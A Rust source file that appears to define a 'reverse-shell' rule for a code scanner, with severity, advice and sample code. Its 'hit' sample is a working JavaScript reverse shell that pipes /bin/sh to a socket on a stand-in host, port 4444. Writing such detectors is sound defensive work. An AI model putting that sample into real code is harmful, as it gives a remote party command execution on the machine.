//! A shell whose input and output are a connection.

use crate::check::{Check, Context, threats};
use crate::rule::Match;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "reverse-shell",
    category: "remote-code",
    severity: Severity::High,
    action: Action::Confirm,
    why: "Whoever is at the other end of the connection runs whatever they like.",
    help: "Run fixed commands, and use ssh where people have to work on a machine.",
    hit: "const shell = spawn('/bin/sh', []);\nconst socket = net.connect(4444, 'in.example.net', () => { socket.pipe(shell.stdin); shell.stdout.pipe(socket); });",
    miss: "const shell = spawn('/bin/sh', ['build.sh']);\nshell.stdout.pipe(process.stdout);",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    threats(context)
}
